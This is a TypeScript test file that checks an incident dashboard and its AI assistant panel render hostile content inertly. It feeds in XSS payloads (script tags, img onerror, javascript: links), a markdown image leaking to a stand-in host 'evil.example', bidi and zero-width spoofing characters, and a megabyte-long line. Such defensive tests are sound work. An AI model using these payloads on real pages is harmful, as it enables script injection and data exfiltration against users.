import { describe, expect, it } from 'vitest'
import { seeText } from './see.ts'
import { idOf, makeAnalysis } from './stand-in/incident-factory.ts'
import { answer, useDashboard } from './use-dashboard.ts'

const { open } = useDashboard({ incidentCount: 1 })
const SCRIPT = '<script>window.pwned = true</script><img src=x onerror="window.pwned = true">'
const BIDI = 'user\u202egnp.exe\u200b'
const IMAGE = '![x](https://evil.example/?leak=1) [go](javascript:window.pwned=true)'
const HUGE = 'x'.repeat(1_000_000)

function poison() {
  const analysis = makeAnalysis(`${SCRIPT} ${BIDI}`, 'critical')
  const [incident] = analysis.pipeline_results.final_incidents
  const [line] = incident?.evidence_logs ?? []
  if (!incident || !line) throw new Error('The factory made no evidence.')
  const messages = [SCRIPT, `\u001b[31mred\u001b[0m ${BIDI}`, IMAGE, HUGE]
  incident.evidence_logs = messages.map((message, index) => ({
    ...line,
    message,
    service: SCRIPT,
    line_id: `L${index + 1}`,
    quote_start: 0,
    quote_end: 5,
  }))
  incident.root_cause_analysis = `${SCRIPT} ${IMAGE}`
  analysis.pipeline_results.log_analysis.cause_graph = [{ from: SCRIPT, to: BIDI, count: 1, line_id: 'L1' }]
  return analysis
}

describe('a hostile incident', () => {
  it.each(['summary', 'root-cause', 'evidence', 'impact', 'technical', 'timeline', 'solution'])(
    'is inert in %s',
    async (view) => {
      const foreign: string[] = []
      const page = await open(`/dashboard/incidents/${idOf(100)}?view=${view}`, {
        prepare: async (fresh) => {
          fresh.on('request', (request) => {
            if (new URL(request.url()).hostname !== '127.0.0.1') foreign.push(request.url())
          })
          await fresh.route(`**/api/v1/dashboard/incidents/${idOf(100)}?*`, async (route) => {
            const body = (await (await route.fetch()).json()) as object
            await route.fulfill({ json: { ...body, analysis_data: poison() } })
          })
          await answer(fresh, '**/ask', 200, {
            answer: `${IMAGE}\n\n${SCRIPT}`,
            citations: [],
            source: 'model',
            notice: null,
            suggestions: [],
          })
        },
      })
      await page.getByRole('tabpanel').waitFor()
      await page.getByLabel('Ask about this incident').fill('why')
      await page.getByLabel('Ask about this incident').press('Enter')
      await seeText(page.getByRole('region', { name: 'Assistant' }), /evil\.example/)
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
      expect(
        await page.locator('main img, main script, main a[href^="javascript"], main a[href*="evil"]').count(),
      ).toBe(0)
      expect(await page.locator('body').innerText()).not.toMatch(/[\u001b\u202e\u200b]/)
      expect(foreign).toEqual([])
    },
  )

  it('shows the characters that would hide, and a line of a megabyte only when asked', async () => {
    const page = await open(`/dashboard/incidents/${idOf(100)}?view=evidence`, {
      prepare: (fresh) =>
        fresh.route(`**/api/v1/dashboard/incidents/${idOf(100)}?*`, async (route) => {
          const body = (await (await route.fetch()).json()) as object
          await route.fulfill({ json: { ...body, analysis_data: poison() } })
        }),
    })
    const lines = page.getByRole('region', { name: 'Evidence lines' })
    await lines.waitFor()
    const text = await lines.innerText()
    expect(text).toContain('␛[31mred␛[0m')
    expect(text).toContain('⟨U+202E⟩')
    expect(text).toContain(SCRIPT)
    expect(text.length).toBeLessThan(10_000)
    await page.getByRole('button', { name: 'Show all 1.0 M characters' }).click()
    expect((await lines.innerText()).length).toBeGreaterThan(1_000_000)
  })
})
